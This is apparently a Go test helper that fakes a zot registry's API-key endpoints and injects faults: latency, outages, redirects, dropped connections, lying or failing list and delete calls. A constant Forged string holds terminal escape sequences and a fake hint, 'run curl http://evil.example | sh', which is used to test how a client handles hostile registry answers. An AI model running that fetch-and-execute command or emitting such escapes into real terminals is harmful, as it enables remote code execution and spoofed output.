// Package zottest is a registry that follows zot's API-key semantics (see
// FACTS.md: basic auth with password or API key, keys hashed and bound to
// their user, expired and revoked keys refused everywhere, /zot/auth/apikey
// create/list/delete, lastUsed stamped at every request a key authenticates,
// scopes and creatorUa kept) with faults to inject, hostile ones included.
// Its clock can be moved (SetNow, Advance) so tests can order lastUsed and
// createdAt, or replaced by a virtual one (SetClock) so a simulation can run
// days in milliseconds. It serves on loopback only.
package zottest

import (
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"sort"
	"sync"
	"time"
)

// Faults change the server's behaviour until cleared.
type Faults struct {
	Latency time.Duration // before every answer
	// Down answers 503 to every request before authenticating it, as a
	// reverse proxy in front of a stopped zot does: no key is judged and no
	// lastUsed stamped.
	Down       bool
	DropCreate bool // create the key, then drop the connection without answering
	// HoldMint: create the key, create the file named, then answer nothing
	// until the client goes: a point where zot has minted and the client
	// has no answer yet, for tests that stop a rotation exactly there.
	HoldMint string
	// Arrived is a file created when any request arrives (before Latency),
	// so a test can act while the client waits for the answer.
	Arrived    string
	CreateFail bool // answer 500 to create, creating nothing
	ListLies   bool // list answers 200 with an empty list
	ListFail   bool // list answers 503
	// UseDuringList is the uuid of a key used by somebody else while a list
	// is served: zot stamps the caller's lastUsed in authentication
	// (pkg/api/authn.go, UpdateUserAPIKeyLastUsed) and reads the list later
	// in the handler, with no lock across the two, so a request with
	// another key in between is the newest use the list shows.
	UseDuringList string
	DeleteFail    bool // answer 500 to delete, deleting nothing
	DeleteNoop    bool // answer 200 to delete, deleting nothing
	V2Fail        bool // answer 503 to GET /v2/
	RejectNew     bool // keys minted through the API get 401 on GET /v2/

	// Redirect answers matching requests with a 3xx before authenticating,
	// as a reverse proxy in front of zot would.
	Redirect *Redirect
	// Hostile answers: text a registry controls, forged to drive a terminal
	// and fake a zotkey line (Forged).
	HostileListUUID   bool // every uuid in the key list is Forged
	HostileCreateUUID bool // the answer to create carries Forged as the uuid (the key is still minted)
	HostileLabel      bool // every label in the list and create answers is Forged
}

// Redirect is a 3xx fault: requests whose method and path match (empty:
// any) get Code with Location.
type Redirect struct {
	Code         int
	Location     string
	Method, Path string
}

// Forged is what hostile answers carry: a window-title escape, colour, a
// newline and a fake zotkey hint. "owned" marks it for greps.
const Forged = "\x1b]0;owned\x07\x1b[31m\nzotkey: hint: owned: run curl http://evil.example | sh"

type apiKey struct {
	hash, user, label, uuid string
	created, expires        time.Time // zero expires: never
	lastUsed                time.Time
	revoked                 bool
	scopes                  []string // as given at creation (nil: none given)
	creatorUA               string
}

// Server is a running fake zot.
type Server struct {
	*httptest.Server
	mu        sync.Mutex
	passwords map[string]string
	keys      []*apiKey
	faults    Faults
	offset    time.Duration // the server's clock is clock()+offset
	clock     func() time.Time
	secrets   []string // every key ever minted, for exposure scans

	// What has reached the server, so tests can wait on a request instead
	// of sleeping: requests received by "METHOD PATH", and those not yet
	// answered (or abandoned).
	received map[string]int
	inFlight int
}

// New starts a server with no users.
func New() *Server {
	s := &Server{passwords: map[string]string{}}
	s.Server = httptest.NewServer(http.HandlerFunc(s.serve))
	return s
}

// now is the server's clock; callers hold s.mu. zot reads time.Now() at the
// same points: createdAt in CreateAPIKey (pkg/api/routes.go), lastUsed in
// UpdateUserAPIKeyLastUsed (pkg/meta/boltdb/boltdb.go, called from
// basicAuthn in pkg/api/authn.go), and the expiry judged at authentication
// (authn.go) and in the list's isExpired (routes.go GetAPIKeys).
func (s *Server) now() time.Time {
	if s.clock != nil {
		return s.clock().Add(s.offset)
	}
	return time.Now().Add(s.offset)
}

// SetClock makes clock the server's time source instead of time.Now (nil:
// time.Now again): a simulation's virtual clock, which it may skew as a real
// zot host's clock can be. The clock is read with the server's lock held, so
// it must not call back into the server.
func (s *Server) SetClock(clock func() time.Time) {
	s.mu.Lock()
	s.clock, s.offset = clock, 0
	s.mu.Unlock()
}

// Now is the server's clock, the one createdAt and lastUsed come from.
func (s *Server) Now() time.Time { s.mu.Lock(); defer s.mu.Unlock(); return s.now() }

// SetNow sets the server's clock to t; it keeps running from there.
func (s *Server) SetNow(t time.Time) {
	s.mu.Lock()
	s.offset = 0
	s.offset = t.Sub(s.now())
	s.mu.Unlock()
}

// Advance moves the server's clock by d.
func (s *Server) Advance(d time.Duration) { s.mu.Lock(); s.offset += d; s.mu.Unlock() }

// SetFaults replaces the injected faults.
func (s *Server) SetFaults(f Faults) { s.mu.Lock(); s.faults = f; s.mu.Unlock() }

// Faults returns the injected faults, to add one to them.
func (s *Server) Faults() Faults { s.mu.Lock(); defer s.mu.Unlock(); return s.faults }

// AddUser adds a user that can log in with password.
func (s *Server) AddUser(user, password string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.passwords[user] = password
}

// AddKey gives user a key expiring at expires (zero: never) and returns the
// secret and its uuid.
func (s *Server) AddKey(user string, expires time.Time) (secret, uuid string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	k := s.mint(user, "seeded", expires, nil, "")
	return k.secret, k.uuid
}

// Use authenticates one request with secret for user at the server's current
// time, as a CI job's request would, and reports whether it was accepted;
// like zot it stamps the key's lastUsed.
func (s *Server) Use(user, secret string) bool { return s.UseAt(user, secret, time.Time{}) }

// UseAt is Use at server time at (zero: now): validity is judged and
// lastUsed stamped at that time.
func (s *Server) UseAt(user, secret string, at time.Time) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	if at.IsZero() {
		at = s.now()
	}
	r := httptest.NewRequest(http.MethodGet, "/v2/", nil)
	r.SetBasicAuth(user, secret)
	_, _, ok := s.authenticateAt(r, at)
	return ok
}

// KeyInfo is what the server holds about one key (never the secret).
type KeyInfo struct {
	UUID, User, Label, CreatorUA string
	Scopes                       []string
	CreatedAt, LastUsed, Expires time.Time // zero LastUsed: never used; zero Expires: never
	Revoked                      bool
}

// Key returns what the server holds about the key with uuid.
func (s *Server) Key(uuid string) (KeyInfo, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, k := range s.keys {
		if k.uuid == uuid {
			return KeyInfo{UUID: k.uuid, User: k.user, Label: k.label, CreatorUA: k.creatorUA, Scopes: slices.Clone(k.scopes),
				CreatedAt: k.created, LastUsed: k.lastUsed, Expires: k.expires, Revoked: k.revoked}, true
		}
	}
	return KeyInfo{}, false
}

// Scopes returns the scopes the key with uuid was created with.
func (s *Server) Scopes(uuid string) []string { k, _ := s.Key(uuid); return k.Scopes }

// SetScopes replaces the scopes of the key with uuid (a seeded key's, say).
func (s *Server) SetScopes(uuid string, scopes []string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, k := range s.keys {
		if k.uuid == uuid {
			k.scopes = slices.Clone(scopes)
		}
	}
}

// Expire makes the key with uuid expire now.
func (s *Server) Expire(uuid string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, k := range s.keys {
		if k.uuid == uuid {
			k.expires = s.now().Add(-time.Second)
		}
	}
}

// ValidKeys returns the uuids of user's keys that still authenticate.
func (s *Server) ValidKeys(user string) []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []string
	for _, k := range s.keys {
		if k.user == user && s.valid(k) {
			out = append(out, k.uuid)
		}
	}
	sort.Strings(out)
	return out
}

// Secrets returns every key the server ever minted, revoked or not.
func (s *Server) Secrets() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.secrets)
}

// UUIDOf returns the uuid of the key secret, valid or not.
func (s *Server) UUIDOf(secret string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	h := hash(secret)
	for _, k := range s.keys {
		if k.hash == h {
			return k.uuid
		}
	}
	return ""
}

type minted struct {
	*apiKey
	secret string
}

// mint follows CreateAPIKey in zot's pkg/api/routes.go: a random key stored
// hashed, a fresh uuid, createdAt now, scopes as given, creatorUa from the
// request's User-Agent, generatedBy "manual", lastUsed left zero.
func (s *Server) mint(user, label string, expires time.Time, scopes []string, ua string) minted {
	b := make([]byte, 16)
	_, _ = rand.Read(b)
	secret := "zak_" + hex.EncodeToString(b)
	_, _ = rand.Read(b)
	b[6] = b[6]&0x0f | 0x40
	b[8] = b[8]&0x3f | 0x80
	id := fmt.Sprintf("%x-%x-%x-%x-%x", b[0:4], b[4:6], b[6:8], b[8:10], b[10:])
	k := &apiKey{hash: hash(secret), user: user, label: label, uuid: id, created: s.now().UTC(), expires: expires,
		scopes: slices.Clone(scopes), creatorUA: ua}
	s.keys = append(s.keys, k)
	s.secrets = append(s.secrets, secret)
	return minted{k, secret}
}

func hash(s string) string { h := sha256.Sum256([]byte(s)); return hex.EncodeToString(h[:]) }

func (s *Server) valid(k *apiKey) bool {
	return !k.revoked && (k.expires.IsZero() || s.now().Before(k.expires))
}

// authenticate returns the user, and the key used if it was one. Like zot's
// basicAuthn (pkg/api/authn.go), a key authenticates only for its own user
// and while unexpired, and each request it authenticates stamps its lastUsed
// (MetaDB.UpdateUserAPIKeyLastUsed) before the handler runs.
func (s *Server) authenticate(r *http.Request) (string, *apiKey, bool) {
	return s.authenticateAt(r, s.now())
}

func (s *Server) authenticateAt(r *http.Request, now time.Time) (string, *apiKey, bool) {
	user, pass, ok := r.BasicAuth()
	if !ok {
		return "", nil, false
	}
	if p, ok := s.passwords[user]; ok && p == pass {
		return user, nil, true
	}
	h := hash(pass)
	for _, k := range s.keys {
		if k.hash == h && k.user == user && !k.revoked && (k.expires.IsZero() || now.Before(k.expires)) {
			k.lastUsed = now.UTC()
			return user, k, true
		}
	}
	return "", nil, false
}

func (s *Server) serve(w http.ResponseWriter, r *http.Request) {
	f := s.arrive(r)
	defer func() { s.mu.Lock(); s.inFlight--; s.mu.Unlock() }()
	if s.beforeAuth(w, r, f) {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	user, used, ok := s.authenticate(r)
	if ok && f.RejectNew && used != nil && used.label != "seeded" && r.URL.Path == "/v2/" {
		ok = false
	}
	if !ok {
		w.Header().Set("WWW-Authenticate", `Basic realm="zot"`)
		writeJSON(w, http.StatusUnauthorized, map[string]any{"code": "UNAUTHORIZED", "message": "authentication required"})
		return
	}
	switch {
	case r.URL.Path == "/v2/" && r.Method == http.MethodGet:
		if f.V2Fail {
			http.Error(w, "unavailable", http.StatusServiceUnavailable)
			return
		}
		writeJSON(w, http.StatusOK, map[string]any{})
	case r.URL.Path == "/zot/auth/apikey":
		s.apikey(w, r, user, f)
	default:
		http.NotFound(w, r)
	}
}

// arrive counts a request (the caller ends it: inFlight) and returns the
// faults it meets, marking its arrival when a test waits for that.
func (s *Server) arrive(r *http.Request) Faults {
	s.mu.Lock()
	f := s.faults
	if s.received == nil {
		s.received = map[string]int{}
	}
	s.received[r.Method+" "+r.URL.Path]++
	s.inFlight++
	s.mu.Unlock()
	if f.Arrived != "" {
		touch(f.Arrived)
	}
	return f
}

// beforeAuth plays the faults that answer before zot authenticates (a slow
// or down registry, a redirecting proxy) and says whether one answered.
func (s *Server) beforeAuth(w http.ResponseWriter, r *http.Request, f Faults) bool {
	if f.Latency > 0 {
		select {
		case <-time.After(f.Latency):
		case <-r.Context().Done():
			return true
		}
	}
	if f.Down {
		http.Error(w, "the registry is down", http.StatusServiceUnavailable)
		return true
	}
	if rd := f.Redirect; rd != nil && (rd.Method == "" || rd.Method == r.Method) && (rd.Path == "" || rd.Path == r.URL.Path) {
		w.Header().Set("Location", rd.Location)
		w.WriteHeader(rd.Code)
		return true
	}
	return false
}

func touch(path string) {
	if fd, err := os.Create(path); err == nil {
		fd.Close()
	}
}

type entry struct {
	CreatedAt      time.Time `json:"createdAt"`
	ExpirationDate time.Time `json:"expirationDate"`
	IsExpired      bool      `json:"isExpired"`
	CreatorUA      string    `json:"creatorUa"`
	GeneratedBy    string    `json:"generatedBy"`
	LastUsed       time.Time `json:"lastUsed"`
	Label          string    `json:"label"`
	Scopes         []string  `json:"scopes"`
	UUID           string    `json:"uuid"`
	APIKey         string    `json:"apiKey,omitempty"`
}

// entry is a key as GetAPIKeys and CreateAPIKey (pkg/api/routes.go) show it:
// zot's APIKeyDetails, scopes as given (null when none were), the zero time
// for a never-used key's lastUsed and a never-expiring key's expirationDate.
func (s *Server) entry(k *apiKey, f Faults) entry {
	e := entry{CreatedAt: k.created, ExpirationDate: k.expires, IsExpired: !k.expires.IsZero() && !s.now().Before(k.expires),
		CreatorUA: k.creatorUA, GeneratedBy: "manual", LastUsed: k.lastUsed, Label: k.label, Scopes: slices.Clone(k.scopes), UUID: k.uuid}
	if f.HostileLabel {
		e.Label = Forged
	}
	return e
}

func (s *Server) apikey(w http.ResponseWriter, r *http.Request, user string, f Faults) {
	switch r.Method {
	case http.MethodPost:
		s.create(w, r, user, f)
	case http.MethodGet:
		s.list(w, user, f)
	case http.MethodDelete:
		s.revoke(w, r, user, f)
	default:
		http.Error(w, "method", http.StatusMethodNotAllowed)
	}
}

// createRequest is CreateAPIKey's body (zot's APIKeyPayload: label, scopes,
// expirationDate; the handler is in pkg/api/routes.go).
type createRequest struct {
	Label          string   `json:"label"`
	Scopes         []string `json:"scopes"`
	ExpirationDate string   `json:"expirationDate"`
}

// readCreate reads and checks a create request's body, or answers the error.
func (s *Server) readCreate(w http.ResponseWriter, r *http.Request) (createRequest, time.Time, bool) {
	var req createRequest
	var exp time.Time
	body, err := io.ReadAll(io.LimitReader(r.Body, 8<<10+1))
	switch {
	case err != nil:
		http.Error(w, "read", http.StatusBadRequest)
		return req, exp, false
	case len(body) > 8<<10:
		http.Error(w, "too large", http.StatusRequestEntityTooLarge)
		return req, exp, false
	case json.Unmarshal(body, &req) != nil:
		http.Error(w, "bad json", http.StatusBadRequest)
		return req, exp, false
	}
	if req.ExpirationDate != "" {
		if exp, err = time.Parse(time.RFC3339, req.ExpirationDate); err != nil || !exp.After(s.now()) {
			http.Error(w, "bad expiration date", http.StatusBadRequest)
			return req, exp, false
		}
	}
	return req, exp, true
}

func (s *Server) create(w http.ResponseWriter, r *http.Request, user string, f Faults) {
	req, exp, ok := s.readCreate(w, r)
	if !ok {
		return
	}
	if f.CreateFail {
		http.Error(w, "internal", http.StatusInternalServerError)
		return
	}
	m := s.mint(user, req.Label, exp, req.Scopes, r.UserAgent())
	if f.HoldMint != "" {
		touch(f.HoldMint)
		<-r.Context().Done()
		return
	}
	if f.DropCreate && dropConnection(w) {
		return
	}
	e := s.entry(m.apiKey, f)
	e.APIKey = m.secret
	if f.HostileCreateUUID {
		e.UUID = Forged
	}
	writeJSON(w, http.StatusCreated, e)
}

// dropConnection closes the connection without an answer, if it can.
func dropConnection(w http.ResponseWriter) bool {
	hj, ok := w.(http.Hijacker)
	if !ok {
		return false
	}
	conn, _, err := hj.Hijack()
	if err != nil {
		return false
	}
	conn.Close()
	return true
}

func (s *Server) list(w http.ResponseWriter, user string, f Faults) {
	if f.ListFail {
		http.Error(w, "unavailable", http.StatusServiceUnavailable)
		return
	}
	if f.UseDuringList != "" {
		for _, k := range s.keys {
			if k.uuid == f.UseDuringList && !k.revoked {
				k.lastUsed = s.now().UTC()
			}
		}
	}
	list := []entry{}
	for _, k := range s.keys {
		if f.ListLies || k.user != user || k.revoked {
			continue
		}
		e := s.entry(k, f)
		if f.HostileListUUID {
			e.UUID = Forged
		}
		list = append(list, e)
	}
	writeJSON(w, http.StatusOK, map[string]any{"apiKeys": list})
}

func (s *Server) revoke(w http.ResponseWriter, r *http.Request, user string, f Faults) {
	ids := r.URL.Query()["id"]
	if len(ids) != 1 {
		http.Error(w, "id", http.StatusBadRequest)
		return
	}
	if f.DeleteFail {
		http.Error(w, "internal", http.StatusInternalServerError)
		return
	}
	for _, k := range s.keys {
		if !f.DeleteNoop && k.uuid == ids[0] && k.user == user {
			k.revoked = true
		}
	}
	w.WriteHeader(http.StatusOK)
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	_ = json.NewEncoder(w).Encode(v)
}

// LabelOf returns the label of the key with uuid id.
func (s *Server) LabelOf(id string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, k := range s.keys {
		if k.uuid == id {
			return k.label
		}
	}
	return ""
}

// Received is how many requests with method and path have reached the server
// (counted on arrival, before any latency).
func (s *Server) Received(method, path string) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.received[method+" "+path]
}

// InFlight is how many requests the server is handling: received, and not
// yet answered or abandoned.
func (s *Server) InFlight() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.inFlight
}
